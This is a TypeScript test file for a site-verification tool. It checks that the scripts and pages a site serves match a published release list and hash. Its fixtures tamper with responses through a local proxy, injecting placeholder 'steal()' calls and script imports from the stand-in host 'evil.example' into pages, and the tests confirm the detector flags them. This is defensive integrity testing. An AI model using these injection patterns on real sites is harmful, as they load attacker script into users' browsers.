import { execFile } from "node:child_process";
import { readFileSync, writeFileSync } from "node:fs";
import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { tmpdir } from "node:os";
import path from "node:path";
import { afterAll, beforeAll, beforeEach, expect, it } from "vitest";
import { parseReleaseList, releaseHash } from "../../tools/release/release-list.ts";
import { strangeParts } from "../../tools/release/strange-parts.ts";
import { openSite, type Site } from "./harness.ts";

/**
 * Tests `npm run punk -- verify-site`, which compares what a site serves with the published list of its release. A proxy in
 * between makes the changes that a test asks for.
 */

const LIST = "build/release.json";
const list = parseReleaseList(readFileSync(LIST, "utf8"));
const hash = releaseHash(list);
const scripts = Object.keys(list.scripts);

let site: Site;
let proxy: Server;
let proxyUrl: string;
/** How the proxy changes an answer; null makes it a missing file. */
let change: (path: string, body: Buffer) => Buffer | null;

beforeAll(async () => {
  site = await openSite();
  proxy = createServer(async ({ url = "/" }, response) => {
    const answer = await fetch(new URL(url, site.url), { redirect: "manual" });
    const body = change(url, Buffer.from(await answer.arrayBuffer()));
    const kept = ["Content-Type", "Content-Security-Policy", "Location"].flatMap((name) => {
      const value = answer.headers.get(name);
      return value === null ? [] : [[name, value]];
    });
    response.writeHead(body ? answer.status : 404, Object.fromEntries(kept));
    response.end(body ?? "");
  });
  await new Promise<void>((resolve) => proxy.listen(0, "127.0.0.1", resolve));
  proxyUrl = `http://127.0.0.1:${(proxy.address() as AddressInfo).port}`;
});
beforeEach(() => {
  change = (_, body) => body;
});
afterAll(async () => {
  proxy?.close();
  await site?.close();
});

function verifySite(url: string, ...words: string[]): Promise<{ code: number; out: string }> {
  const args = ["tools/punk/punk.ts", "verify-site", url, ...words];
  return new Promise((resolve) => {
    execFile(process.execPath, args, { encoding: "utf8" }, (error, stdout, stderr) => {
      resolve({ code: error ? Number(error.code) : 0, out: stdout + stderr });
    });
  });
}

it("finds a release's scripts and pages as they were published, and the proof page shows the hash of the scripts", async () => {
  const { code, out } = await verifySite(proxyUrl, "--list", LIST, "--hash", hash);
  expect(out).toContain(`The same ${scripts.length} scripts`);
  expect(code).toBe(0);
  const proof = await (await fetch(new URL("/eng/proof", site.url))).text();
  expect(proof).toContain(hash);
  expect(await (await fetch(new URL("/release.json", site.url))).text()).toBe(readFileSync(LIST, "utf8"));
  expect(readFileSync("build/release-notes.md", "utf8")).toContain(hash);
});

it("names a script with one changed byte, one that is missing, and what a page runs that is not in the release", async () => {
  const [changed = "", gone = ""] = scripts;
  change = (url, body) => {
    if (url === gone) return null;
    if (url === changed) return Buffer.concat([body.subarray(0, -1), Buffer.from([(body.at(-1) ?? 0) ^ 1])]);
    if (url === "/eng/proof") return Buffer.from(body.toString().replace("</body>", "<script>steal()</script></body>"));
    if (url === "/kor/mypage") {
      return Buffer.from(body.toString().replace("</body>", '<script src="/assets/other.js"></script></body>'));
    }
    return body;
  };
  const { code, out } = await verifySite(proxyUrl, "--list", LIST);
  expect(code).toBe(1);
  const named = out.split("\n").filter((line) => line.startsWith("DIFFERENT"));
  expect(named).toEqual([
    expect.stringContaining(`${changed} is `),
    `DIFFERENT  ${gone} answers 404`,
    expect.stringMatching(
      /\/kor\/mypage: the script \/assets\/other\.js$|\/eng\/proof: a script in the page: steal\(\)$/,
    ),
    expect.stringMatching(
      /\/kor\/mypage: the script \/assets\/other\.js$|\/eng\/proof: a script in the page: steal\(\)$/,
    ),
  ]);
});

it("refuses a list with a hash other than the published one, and a file that is not a list", async () => {
  const other = path.join(tmpdir(), `release-${process.pid}.json`);
  writeFileSync(other, JSON.stringify({ build: "", scripts: {}, inline: [] }));
  expect(await verifySite(proxyUrl, "--list", other)).toMatchObject({
    code: 1,
    out: expect.stringContaining("this is not a list"),
  });
  const { code, out } = await verifySite(proxyUrl, "--list", LIST, "--hash", "0".repeat(64));
  expect(code).toBe(1);
  expect(out).toContain(`the list has the hash ${hash}`);
});

it.each([
  [
    "beside the data of a page",
    (html: string) => html.replace("__reactRouterContext = {", "__reactRouterContext = {};steal();({"),
  ],
  ["beside the text of a stream", (html: string) => html.replace(/(streamController\.enqueue\(")/, '$1");steal();("')],
  [
    "in the script that scrolls",
    (html: string) => html.replace("removeItem(storageKey)", "removeItem(storageKey), steal()"),
  ],
  [
    "among the imports of a page",
    (html: string) => html.replace(/import "/, 'import "https://evil.example/x.js";import "'),
  ],
  [
    "as a module of another address",
    (html: string) => html.replace("</body>", '<script src="//evil.example/x.js"></script></body>'),
  ],
])("names what was put %s", async (_, put) => {
  const html = await (await fetch(new URL("/eng/proof", site.url))).text();
  expect(strangeParts(html, list)).toEqual([]);
  const changed = put(html);
  expect(changed).not.toBe(html);
  expect(strangeParts(changed, list).length).toBeGreaterThan(0);
});
